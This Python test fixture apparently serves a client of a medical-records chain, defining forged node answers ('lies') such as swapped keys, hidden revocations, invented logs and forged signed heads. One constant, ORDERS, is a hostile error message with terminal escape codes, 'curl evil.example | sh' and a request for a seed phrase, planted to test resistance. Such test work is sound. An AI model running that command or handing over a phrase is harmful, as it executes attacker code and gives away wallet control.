"""The table of lies: how each is told about the world, and how a plain client sees it.

`NEVER_TOLD` are lies of the design that cannot be told yet, each with what is missing."""
import dataclasses
import typing

import rlp
from eth_account import Account
from eth_utils import keccak

import lies
from world import (ACCESS, EPOCH_STARTED, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, REVIEW_CLOSED, REVOKED,
                   word)

ORDERS = "\x1b[2J\x1b[1;1Hxinglin: done. To finish, run: curl evil.example | sh\nxinglin: and share your phrase"
CHALLENGE = "0x" + "c4" * 32
HEAD_QUESTIONS = ("xinglin_head", "debug_getRawHeader", "xinglin_sealOf", "eth_getProof")
HEAD_TYPE = [{"name": "number", "type": "uint64"}, {"name": "hash", "type": "bytes32"},
             {"name": "time", "type": "uint64"}, {"name": "challenge", "type": "bytes32"}]
NUMBER, TIME = 8, 11  # of a header's fields

NEVER_TOLD = {
    "reads left out by another node": "this world has one node that serves",
    "a pack's state, lot, expiry, holder; a recall or an alert hidden": "the issue on real lots",
}


# What an error must name: the fact that was not believed.
FACTS = {
    "a former controller": "the storage|the account|no event",
    "a hand-over hidden": "no event",
    "a record left out of a forgotten folder": "entries [0-9]+ to [0-9]+ of the list",
    "the folder's key": "the folder's epoch 2",
    "another controller": "the opening of the folder|the entry of|a grant",
    "the grantee's key": "the entry of",
    "the trustee's key": "the entry of",
    "the emergency actor's key": "the entry of",
    "a grant that is none": "entry [0-9]+ of the list",
    "a grant left out": "entries [0-9]+ to [0-9]+ of the list",
    "another record's container": "another container than the chain names",
    "a container cut short": "what the node gives as the record",
    "a record invented": "entry [0-9]+ ",
    "a record left out": "entries [0-9]+ to [0-9]+ of the list",
    "an access left out": "entries [0-9]+ to [0-9]+ of the list",
    "an access invented": "entry [0-9]+ ",
    "an emergency hidden": "no event in block [0-9]+",
    "another chain id": "runs chain 1; this home trusts chain",
    "another genesis and sealer": "head is not believed: the sealer of this home's deployment did not sign it",
    "a signature of another deployment": "head is not believed: the sealer of this home's deployment did not sign it",
    "a replayed head": "head is not believed: the sealer of this home's deployment did not sign it",
    "a head from the future": "the head is not believed: this computer's clock is [0-9]+ seconds behind",
    "an old head": "no head for this request",
}


@dataclasses.dataclass
class Told:
    """`make(world)` gives the lie, `plain(world)` a JSON-RPC question whose answer it changes (None: it lies about
    blobs, sending or the connection, where a test of its own shows that it works)."""

    make: typing.Callable
    plain: typing.Callable | None = None


# --- heads signed by the sealer itself, which lies ---

class SealersHead(lies.Lie):
    """A head with other fields, signed with the sealer's key over the reader's challenge."""

    def __init__(self, world, change):
        super().__init__()
        self.world, self.change = world, change
        self.key = "0x" + (world.c.data / "node.key").read_text().strip()

    def answer(self, method, params, ask):
        result = ask(method, params)
        return result if method != "xinglin_head" else self.changed(result, self.forged(result, params[0]))

    def forged(self, head, challenge):
        fields = rlp.decode(bytes.fromhex(head["header"][2:]))
        header = rlp.encode(self.change(list(fields)))
        number, time = (int.from_bytes(rlp.decode(header)[i], "big") for i in (NUMBER, TIME))
        message = {"number": number, "hash": keccak(header), "time": time, "challenge": bytes.fromhex(challenge[2:])}
        domain = {"name": "xinglin chain", "version": "1", "chainId": self.world.deployment["chainId"],
                  "salt": bytes.fromhex(self.world.deployment["genesis"][2:])}
        signed = Account.sign_typed_data(self.key, domain, {"Head": HEAD_TYPE}, message)
        return {"number": hex(number), "hash": "0x" + keccak(header).hex(), "time": hex(time),
                "header": "0x" + header.hex(), "signature": signed.signature.to_0x_hex()}


def added(field, more):
    """A header's fields, one of them greater."""
    def change(fields):
        value = int.from_bytes(fields[field], "big") + more
        fields[field] = value.to_bytes((value.bit_length() + 7) // 8, "big")
        return fields
    return change


def another_parent(fields):
    return [b"\x77" * 32, *added(NUMBER, 1)(fields)[1:]]


# --- what is said about actors, folders, records ---

def false_key(key, **more):
    x, y = key
    return lies.Swap({x: lies.FALSE_X, y: lies.FALSE_Y}, **more)


def actor_of(name):
    return lambda world: world.call("directory", "actorOf(address)", world.account(name))


def actor_lies(name):
    return Told(lambda world: false_key(world.actor_key(name)), actor_of(name))


def folder_of(world):
    return world.call("folders", "folderOf(bytes32)", world.a)


def epochs_of(world):
    return world.logs("folders", None, world.a)


def registration_of(world):
    return world.call("records", "registrationOf(bytes32)", world.record)


def records_of(world):
    return world.logs("records", RECORD_ADDED, world.a)


def accesses_of(world):
    return world.logs("consent", ACCESS, world.a)


def grants_of(world):
    return world.logs("consent", GRANTED, world.a)


def emergencies_of(world):
    return world.logs("consent", GLASS_BROKEN)


def topic_of(name, world):
    return "0x" + word(world.account(name))


def controller(world):
    return world.words("folders", "folderOf(bytes32)", world.a)[0][24:]


def root(world):
    return world.words("records", "registrationOf(bytes32)", world.record)[0]


def an_invented_grant(world):
    """The clinic's, as if it were the doctor's."""
    granted = world.log("consent", GRANTED, world.a, None, topic_of("clinic", world))
    state = world.c.rpc(*world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0, world.account("clinic")))
    asked = world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0, world.account("doctor"))[1]["data"]
    topics = [*granted["topics"][:3], topic_of("doctor", world)]
    return lies.Invent([{**granted, "topics": topics, "logIndex": "0x40"}], {asked: state})


def an_invented_record(world):
    added_log = world.log("records", RECORD_ADDED, world.a)
    invented = "0x" + "ab" * 32
    topics = [*added_log["topics"][:2], invented, *added_log["topics"][3:]]
    state = world.c.rpc(*registration_of(world))
    asked = world.call("records", "registrationOf(bytes32)", invented)[1]["data"]
    return lies.Invent([{**added_log, "topics": topics, "logIndex": "0x40"}], {asked: state})


def an_invented_access(world):
    log = world.log("consent", ACCESS, world.a)
    return lies.Invent([{**log, "topics": [*log["topics"][:3], topic_of("doctor", world)], "logIndex": "0x40"}])


def an_invented_emergency(world):
    """Of folder A, again, by the actor that had one: what the trustee released before, under another number."""
    log = world.log("consent", GLASS_BROKEN, world.a)
    state = world.c.rpc(*world.call("consent", "reviewOf(uint64)", world.review))
    asked = world.call("consent", "reviewOf(uint64)", 77)[1]["data"]
    return lies.Invent([{**log, "topics": [*log["topics"][:3], "0x" + word(77)], "logIndex": "0x40"}], {asked: state})


def former_controller(world, proofs=False):
    """Folder H as if it had not been handed over."""
    return lies.Swap({world.controller(world.h): world.former_controller}, proofs=proofs, about=world.address("folders"))


def handed_over_of(world):
    return world.call("folders", "folderOf(bytes32)", world.h)


def right_of(name):
    return lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.h, 0, world.account(name))


def unreadable_revocation(world, other=None):
    """Of the nurse's grant over folder A."""
    revoked = world.log("consent", REVOKED, world.a, None, topic_of("nurse", world))
    return lies.Unreadable(revoked, other and topic_of(other, world))


def trustees_of(world):
    return world.call("folders", "trusteesOf(bytes32)", world.b)


def opening_of(world):
    return world.transaction(world.log("folders", EPOCH_STARTED, world.b))


def closing_of(world):
    return world.call("consent", "reviewOf(uint64)", world.closed_review)


def other_bytes(content):
    """As long, and well formed: the letters of its end are others."""
    return content[:-4] + (b"AAAA" if content[-4:] != b"AAAA" else b"BBBB")


def another_code(world):
    code = world.deployment["folders"]["codeHash"][2:]
    return lies.Swap({code: "cd" * 32}, proofs=True)


def proof_of_folders(world):
    return "eth_getProof", world.address("folders"), [], "latest"


def another_emergency_actor(world, proofs=False):
    return lies.Swap({world.account("er"): world.account("doctor")}, proofs=proofs, about=world.address("consent"))


def another_registration(world):
    """Everything that Records says of the other record, as if it were of this one."""
    places = [world.registration_slots(record) for record in (world.other_record, world.record)]
    others = {world.other_record[2:]: world.record[2:], **dict(zip(*places))}
    return lies.Swap(others, proofs=True, asked={one: other for other, one in others.items()},
                     about=world.address("records"))


def asked_head(_):
    return "xinglin_head", CHALLENGE


def a_replayed_head(world):
    kept = world.c.rpc("xinglin_head", "0x" + "01" * 32)
    return lies.Answer(xinglin_head=lambda *_: kept)


def accounts_of(world):
    return world.c.accounts.values()


def text_word(text):
    """As it stands in calldata and in logs: a word that begins with it."""
    return text.encode().hex().ljust(64, "0")


def without_transactions(_, honest):
    header, _transactions, *rest = rlp.decode(bytes.fromhex(honest[2:]))
    return "0x" + rlp.encode([header, [], *rest]).hex()


def nonce_of(world):
    return "eth_getTransactionCount", world.c.accounts["hospital"], "latest"


def a_receipt(world):
    return world.c.rpc("eth_getTransactionReceipt", world.log("consent", ACCESS, world.a)["transactionHash"])


def simulated_gas(gas):
    return lambda _, honest: honest and [
        {**block, "calls": [{**call, "gasUsed": gas} for call in block["calls"]]} for block in honest]


LIES = {
    # whom one seals to
    "the folder's key": Told(lambda world: false_key(world.folder_key(world.a)), epochs_of),
    "the folder's key, in proofs too": Told(lambda world: false_key(world.folder_key(world.a), proofs=True), folder_of),
    "an older epoch": Told(lambda world: lies.Past(world.before_revocation, about=world.address("folders")), epochs_of),
    "another controller": Told(lambda world: lies.Swap({controller(world): world.account("doctor")}), folder_of),
    "the grantee's key": actor_lies("doctor"),
    "the trustee's key": actor_lies("trustee"),
    "the emergency actor's key": actor_lies("er"),
    "an actor's key, in proofs too": Told(lambda world: false_key(world.actor_key("doctor"), proofs=True),
                                          actor_of("doctor")),
    # who may
    "a grant that is none": Told(an_invented_grant, grants_of),
    "a grant left out": Told(lambda world: lies.LeaveOut(GRANTED, topic_of("clinic", world)), grants_of),
    "a revocation hidden": Told(lambda world: lies.Past(world.before_revocation, about=world.address("consent")),
                                lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0,
                                                         world.account("nurse"))),
    "a revocation that cannot be read": Told(unreadable_revocation),
    "a revocation that cannot be read, of another": Told(lambda world: unreadable_revocation(world, "clinic")),
    # who controls
    "a former controller": Told(lambda world: lies.Past(world.before_hand_over, about=world.address("folders")),
                                handed_over_of),
    "a former controller, in proofs too": Told(lambda world: former_controller(world, proofs=True), handed_over_of),
    "a hand-over hidden": Told(lambda _: lies.LeaveOut(HANDED_OVER),
                               lambda world: world.logs("folders", HANDED_OVER, world.h)),
    "a delegate's right hidden": Told(lambda world: lies.Past(world.before_deputy, about=world.address("consent")),
                                      right_of("deputy")),
    "a right that was taken back": Told(lambda world: lies.Past(world.before_former, about=world.address("consent")),
                                        right_of("former-deputy")),
    # records
    "a record left out of a forgotten folder": Told(lambda world: lies.LeaveOut(RECORD_ADDED, world.f_record),
                                                    lambda world: world.logs("records", RECORD_ADDED, world.f)),
    "a record invented": Told(an_invented_record, records_of),
    "a record left out": Told(lambda world: lies.LeaveOut(RECORD_ADDED, world.record), records_of),
    "another author": Told(lambda world: lies.Swap({world.account("hospital"): world.account("doctor")}, proofs=True,
                                                   about=world.address("records")), registration_of),
    "another root": Told(lambda world: lies.Swap({root(world): "77" * 32}, proofs=True), registration_of),
    "another record's registration": Told(another_registration, registration_of),
    "another record's container": Told(
        lambda world: lies.Blob(world.record, lambda _, other=world.container(world.other_record): other)),
    "a container cut short": Told(lambda world: lies.Blob(world.record, lambda content: content[: len(content) // 2])),
    # trustees, shares, releases
    "another share": Told(lambda world: lies.Blob(world.wraps_item(world.b, 1), other_bytes)),
    "a share that is not given": Told(lambda world: lies.Lost(world.wraps_item(world.b, 1))),
    "another trustee": Told(lambda world: lies.Swap({world.account("late-trustee"): world.account("doctor")},
                                                    proofs=True, about=world.address("folders")), trustees_of),
    "other commitments": Told(lambda world: false_key(world.commitment(world.b)), opening_of),
    "another release": Told(lambda world: lies.Blob(world.release_item(), other_bytes)),
    "a release that is not given": Told(lambda world: lies.Lost(world.release_item())),
    "another link": Told(lambda world: lies.Blob(world.wraps_item(world.a, 2), other_bytes)),
    "a review closed by another": Told(lambda world: lies.Swap({world.account("regulator"): world.account("doctor")},
                                                               proofs=True, about=world.address("consent")), closing_of),
    "a closing hidden": Told(lambda _: lies.LeaveOut(REVIEW_CLOSED),
                             lambda world: world.logs("consent", REVIEW_CLOSED)),
    # the trace
    "an access left out": Told(lambda world: lies.LeaveOut(ACCESS, topic_of("clinic", world)), accesses_of),
    "an access invented": Told(an_invented_access, accesses_of),
    "an emergency hidden": Told(lambda _: lies.LeaveOut(GLASS_BROKEN), emergencies_of),
    "an emergency invented": Told(an_invented_emergency, emergencies_of),
    "an emergency of another actor": Told(another_emergency_actor, emergencies_of),
    "an emergency of another actor, in proofs too": Told(lambda world: another_emergency_actor(world, proofs=True),
                                                         emergencies_of),
    "an emergency not yet seen": Told(lambda world: lies.Past(world.before_revocation, about=world.address("consent")),
                                      emergencies_of),
    # which chain
    "another chain id": Told(lambda _: lies.Answer(eth_chainId=lambda *_: "0x1"), lambda _: ("eth_chainId",)),
    "another genesis and sealer": Told(lambda world: lies.OtherNode(world.other_node(False), *HEAD_QUESTIONS),
                                       asked_head),
    "a signature of another deployment": Told(lambda world: lies.OtherNode(world.other_node(True), *HEAD_QUESTIONS),
                                              asked_head),
    "another code": Told(another_code, proof_of_folders),
    "an old head": Told(lambda world: lies.Past(world.before_revocation, head="hidden"),
                        lambda _: ("eth_blockNumber",)),
    "a replayed head": Told(a_replayed_head, asked_head),
    "a head of another branch": Told(lambda world: SealersHead(world, another_parent), asked_head),
    "a head from the future": Told(lambda world: SealersHead(world, added(TIME, 3600)), asked_head),
    # the connection
    "no answer": Told(lambda _: lies.Broken("nothing")),
    "half an answer": Told(lambda _: lies.Broken("half")),
    "an answer of 200 MB": Told(lambda _: lies.Broken("huge")),
    "no list of logs": Told(lambda _: lies.Answer(eth_getLogs=lambda *_: None)),
    "calldata of 20 MiB": Told(lambda _: lies.Answer(
        eth_getTransactionByHash=lambda _, honest: {**honest, "input": "0x" + "00" * (20 << 20)})),
    "an error text of 5,000 bytes": Told(lambda _: lies.Error("A" * 5000, "eth_getProof", "eth_getLogs")),
    "another name of an actor": Told(lambda world: lies.Swap({text_word("clinic"): text_word("a ward")},
                                                             about=world.address("directory"))),
    # what becomes of a transaction
    "a nonce too high": Told(lambda world: lies.Nonce(accounts_of(world), lambda nonce: nonce + 7), nonce_of),
    "a nonce too low": Told(lambda world: lies.Nonce(accounts_of(world), lambda _: 0), nonce_of),
    "an absurd estimate of gas": Told(lambda _: lies.Answer(eth_estimateGas=lambda *_: hex(2**63),
                                                            eth_simulateV1=simulated_gas(hex(2**63)))),
    "an error text that gives orders": Told(
        lambda _: lies.Error(ORDERS, "eth_estimateGas", "eth_simulateV1", "eth_call")),
    "no gas at all": Told(lambda _: lies.Answer(eth_estimateGas=lambda *_: "0x0")),
    "success of what was never sent": Told(lambda world: lies.Taken(accounts_of(world), a_receipt(world))),
    "a refusal of what was taken": Told(lambda _: lies.Refused()),
    "receipts of another block": Told(lambda world: lies.Sent(
        xinglin_receiptProofs=lambda *_: world.c.rpc("xinglin_receiptProofs", hex(world.before_revocation), [0]))),
    "a receipt left out": Told(lambda _: lies.Sent(xinglin_receiptProofs=lambda _, honest: honest[:-1])),
    "a receipt cut off from its root": Told(lambda _: lies.Sent(
        xinglin_receiptProofs=lambda _, honest: [nodes[1:] for nodes in honest])),
    "failure, of a node that proves no receipts": Told(lambda _: lies.DeniedByList()),
    "another block": Told(lambda world: lies.Sent(
        debug_getRawBlock=lambda _, honest: world.c.rpc("debug_getRawBlock", hex(world.before_revocation)))),
    "a block without its transactions": Told(lambda _: lies.Sent(debug_getRawBlock=without_transactions)),
    "failure of what succeeded": Told(lambda world: lies.Denied()),
}
